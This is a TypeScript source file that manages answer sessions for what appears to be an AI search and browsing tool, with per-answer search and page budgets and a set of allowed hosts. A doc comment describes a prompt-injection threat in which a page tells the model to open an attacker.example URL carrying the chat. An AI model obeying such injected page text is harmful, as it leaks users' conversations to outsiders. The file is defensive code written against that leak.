import { createHash, randomBytes } from 'node:crypto';
import { AnswerNotFoundError } from './errors.ts';
import { hostsInMessage } from './message-hosts.ts';
import { SourceLedger } from './source-ledger.ts';
import { hostKey } from './url-rules.ts';

/** Per-answer budgets. */
export interface Budgets {
  /** Searches (backend queries) an answer may run; default 16. */
  searches: number;
  /** Page reads (read calls) an answer may make; default 12. */
  pages: number;
}

/** The budgets of the design: 16 searches and 12 pages per answer. */
export const DEFAULT_BUDGETS: Readonly<Budgets> = { searches: 16, pages: 12 };

/** A budget snapshot, as every search and read response reports it. */
export interface BudgetState {
  searches: { used: number; limit: number };
  pages: { used: number; limit: number };
}

/** Options of {@link AnswerSessions}. */
export interface AnswerSessionsOptions {
  /** Idle time after which an answer expires (default one hour). */
  ttlMs?: number;
  /** Most answers kept; the least recently used is dropped first (default 1,000). */
  maxSessions?: number;
  /** Budgets of a new answer. */
  budgets?: Partial<Budgets>;
  /** Most hosts one answer may accumulate (default 5,000). */
  maxSeenHosts?: number;
  /** Clock (default `Date.now`). */
  now?: () => number;
}

/**
 * One answer in progress: the hosts it has seen (rule 1), its source ledger and its budgets.
 */
export class AnswerSession {
  /** The random id the browser sends back with every call. */
  readonly id: string;
  /**
   * A short tag derived from the id, for logs: the same for every fetch of this answer, and useless
   * as the id (which unlocks the answer's seen hosts and budgets, so it is never logged).
   */
  readonly logTag: string;
  /** Numbers the answer's sources. */
  readonly ledger = new SourceLedger();
  /** The budgets this answer started with. */
  readonly budgets: Readonly<Budgets>;
  /** When the answer was last used (ms, the sessions' clock). */
  lastUsed: number;
  #searchesUsed = 0;
  #pagesRead = 0;
  readonly #seenHosts = new Set<string>();
  readonly #maxSeenHosts: number;

  /** @internal Created by {@link AnswerSessions.create}. */
  constructor(id: string, budgets: Readonly<Budgets>, now: number, maxSeenHosts: number) {
    this.id = id;
    this.logTag = createHash('sha256').update(id).digest('hex').slice(0, 12);
    this.budgets = budgets;
    this.lastUsed = now;
    this.#maxSeenHosts = maxSeenHosts;
  }

  /**
   * Adds a host to the hosts this answer may read from (a search result's host or one the user wrote).
   * @param host - a host name or IP literal.
   */
  markSeen(host: string): void {
    const key = hostKey(host);
    if (key && this.#seenHosts.size < this.#maxSeenHosts) this.#seenHosts.add(key);
  }

  /**
   * Whether the host appeared in this answer's search results or the user's message.
   * @param host - a host name or IP literal (normalised before comparing).
   *
   * @remarks Security: rule 1 (only addresses the answer has already seen). Threat: data leaking out
   * through the address — a page telling the model to open `https://attacker.example/?q=<the chat>`.
   * A host the model invented or found inside a page is not in this set.
   */
  hasSeen(host: string): boolean {
    return this.#seenHosts.has(hostKey(host));
  }

  /** How many hosts are in the seen set. */
  get seenHostCount(): number {
    return this.#seenHosts.size;
  }

  /**
   * Takes up to `wanted` searches from the budget and returns how many were granted (0 when spent).
   * @param wanted - searches this call would like to run.
   */
  takeSearches(wanted: number): number {
    const granted = Math.max(0, Math.min(wanted, this.budgets.searches - this.#searchesUsed));
    this.#searchesUsed += granted;
    return granted;
  }

  /** Takes one page read from the budget; false when it is spent. */
  takePage(): boolean {
    if (this.#pagesRead >= this.budgets.pages) return false;
    this.#pagesRead++;
    return true;
  }

  /** Gives back a page read taken with {@link takePage} that read nothing (a refused address). */
  refundPage(): void {
    if (this.#pagesRead > 0) this.#pagesRead--;
  }

  /** The budget as used so far. */
  budget(): BudgetState {
    return {
      searches: { used: this.#searchesUsed, limit: this.budgets.searches },
      pages: { used: this.#pagesRead, limit: this.budgets.pages },
    };
  }

  /** The line every tool result ends with, e.g. "Searches used 3 of 16; pages read 1 of 12". */
  budgetLine(): string {
    return `Searches used ${this.#searchesUsed} of ${this.budgets.searches}; pages read ${this.#pagesRead} of ${this.budgets.pages}`;
  }
}

/**
 * The answers in progress, in memory: created from the user's message, found again by id, expired
 * after an idle hour, and bounded in number (least recently used dropped first).
 */
export class AnswerSessions {
  readonly #sessions = new Map<string, AnswerSession>();
  readonly #ttlMs: number;
  readonly #maxSessions: number;
  readonly #budgets: Readonly<Budgets>;
  readonly #maxSeenHosts: number;
  readonly #now: () => number;

  /** @param options - lifetime, bounds, budgets and clock. */
  constructor(options: AnswerSessionsOptions = {}) {
    this.#ttlMs = options.ttlMs ?? 60 * 60 * 1000;
    this.#maxSessions = Math.max(1, options.maxSessions ?? 1000);
    this.#budgets = Object.freeze({ ...DEFAULT_BUDGETS, ...options.budgets });
    this.#maxSeenHosts = options.maxSeenHosts ?? 5000;
    this.#now = options.now ?? Date.now;
  }

  /**
   * Starts an answer for a user message: a fresh random id, the message's hosts already seen.
   * @param message - the user's message (only its hosts are kept, not the text).
   */
  create(message: string): AnswerSession {
    this.#sweep();
    while (this.#sessions.size >= this.#maxSessions) {
      const oldest = this.#sessions.keys().next().value;
      if (oldest === undefined) break;
      this.#sessions.delete(oldest);
    }
    const session = new AnswerSession(randomBytes(16).toString('base64url'), this.#budgets, this.#now(), this.#maxSeenHosts);
    for (const host of hostsInMessage(message)) session.markSeen(host);
    this.#sessions.set(session.id, session);
    return session;
  }

  /**
   * The answer with this id, marked as just used.
   * @param id - the id from {@link create}.
   * @throws AnswerNotFoundError when the id is unknown, was dropped, or has expired.
   */
  get(id: string): AnswerSession {
    const session = this.#sessions.get(id);
    if (!session) throw new AnswerNotFoundError();
    if (this.#now() - session.lastUsed > this.#ttlMs) {
      this.#sessions.delete(id);
      throw new AnswerNotFoundError();
    }
    session.lastUsed = this.#now();
    this.#sessions.delete(id);
    this.#sessions.set(id, session);
    return session;
  }

  /** The budgets each new answer gets. */
  get budgets(): Readonly<Budgets> {
    return this.#budgets;
  }

  /** How many answers are held. */
  get size(): number {
    return this.#sessions.size;
  }

  /** Drops expired answers; the map is in last-use order, so they are all at the front. */
  #sweep(): void {
    const now = this.#now();
    for (const [id, session] of this.#sessions) {
      if (now - session.lastUsed <= this.#ttlMs) break;
      this.#sessions.delete(id);
    }
  }
}
